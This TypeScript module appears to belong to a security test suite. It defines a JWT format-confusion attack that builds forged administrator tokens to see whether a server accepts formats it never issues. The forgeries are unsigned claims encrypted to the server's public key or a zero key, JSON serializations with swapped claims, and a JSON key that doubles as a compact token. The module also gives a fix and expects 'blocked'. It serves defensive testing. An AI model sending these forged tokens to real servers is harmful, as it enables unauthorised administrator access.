import { CompactEncrypt } from 'jose';
import type { Attack } from '../../kinds/attack.ts';
import { encode, type Json, readCompact, signingInput, type TokenChanges } from '../../kit/tokens/compact-token.ts';
import type { ForgedToken } from '../../kit/tokens/forged-token.ts';
import { mintEach, minterFrom } from '../../kit/tokens/minted-token.ts';
import {
  accessTokenOf,
  asAdmin,
  judgePresented,
  present,
  statesClaims,
  type TokensSeen,
} from '../../kit/tokens/presented-token.ts';
import { publishedKeys } from '../../kit/tokens/public-keys.ts';

export default {
  kind: 'attack',
  id: 'jwt-format-confusion',
  title: 'Tokens in another format',
  question: 'Does the server take a token in a format that it never issues?',
  goal: 'Become an administrator with a token whose format one part checks and another part reads.',
  precondition: 'own-account',
  severity: 'high',
  references: [
    'CWE-347',
    'CVE-2022-39227',
    'RFC 7515 §7.2',
    'RFC 8725 §2.3',
    'ASVS 9.1.1',
    'RFC 8725 §3.3',
    'RFC 8725bis §3.14',
  ],
  steps: [
    "The attacker encrypts the administrator's claims, unsigned, to the public key of the server and to a key of zeros (RFC 7516).",
    'They write their genuine token in the flattened and the general JSON serialization, and in one that is also a compact token with other claims.',
    'Tokens are signed with the key of the server whose payload is a list, a text, null or another token.',
    'They ask with each who they are; at last once more with the genuine one.',
  ],
  fix: 'Accept the compact form of a signed token alone, and read the claims from the very bytes that its signature covers.',
  controls: ['jwt-claims-split-from-json'],
  needs: { hooks: ['mint'], settings: { algorithm: 'RS256' } },
  appliesTo: statesClaims,
  expected: () => 'blocked',

  async attempt(stage) {
    const held = await stage.signIn(stage.attacker);
    const minter = await minterFrom(stage, held);
    const claims = asAdmin(stage, minter.payload);
    const [{ jwk }] = await publishedKeys(stage);
    const tokens = [
      ...(await mintEach(minter, otherPayloads(claims))),
      ...(await encrypted(claims, jwk)),
      ...serialized(accessTokenOf(held), claims),
    ];
    return present(stage, held, tokens);
  },

  judge: (seen) => judgePresented(seen, 'tokens in another format'),
} satisfies Attack<TokensSeen>;

function otherPayloads(claims: Json): Record<string, TokenChanges> {
  return {
    'payload a list': { payload: JSON.stringify([claims]) },
    'payload a text': { payload: JSON.stringify(claims.sub) },
    'payload null': { payload: 'null' },
    'payload empty': { payload: '' },
    'payload another token': { header: { cty: 'JWT' }, payload: `${signingInput({ alg: 'none' }, claims)}.` },
  };
}

async function encrypted(claims: Json, jwk: Json): Promise<ForgedToken[]> {
  const encrypt = (text: string, header: { alg: string; cty?: string }, key: Json | Uint8Array) =>
    new CompactEncrypt(Buffer.from(text)).setProtectedHeader({ ...header, enc: 'A256GCM' }).encrypt(key);
  const { use: _use, alg: _alg, ...key } = jwk;
  const unsigned = `${signingInput({ alg: 'none' }, claims)}.`;
  return [
    {
      mutation: 'claims encrypted to the public key',
      token: await encrypt(JSON.stringify(claims), { alg: 'RSA-OAEP-256' }, key),
    },
    {
      mutation: 'unsigned token encrypted to the public key',
      token: await encrypt(unsigned, { alg: 'RSA-OAEP-256', cty: 'JWT' }, key),
    },
    {
      mutation: 'claims encrypted to a key of zeros',
      token: await encrypt(JSON.stringify(claims), { alg: 'dir' }, new Uint8Array(32)),
    },
  ];
}

function serialized(genuine: string, claims: Json): ForgedToken[] {
  const [header = '', payload = '', signature = ''] = genuine.split('.');
  const flattened = { payload, protected: header, signature };
  const forged = `${header}.${encode(JSON.stringify(claims))}.`;
  return [
    {
      mutation: 'flattened JSON, claims replaced',
      token: JSON.stringify({ ...flattened, payload: encode(JSON.stringify(claims)) }),
    },
    { mutation: 'flattened JSON', token: JSON.stringify(flattened) },
    { mutation: 'general JSON', token: JSON.stringify({ payload, signatures: [{ protected: header, signature }] }) },
    // the first name of the object is a compact token to whoever splits at dots
    { mutation: 'JSON that is also compact', token: JSON.stringify({ [forged]: '', ...flattened }) },
    { mutation: 'compact with a fourth part', token: `${genuine}.${readCompact(genuine).signature}` },
  ];
}
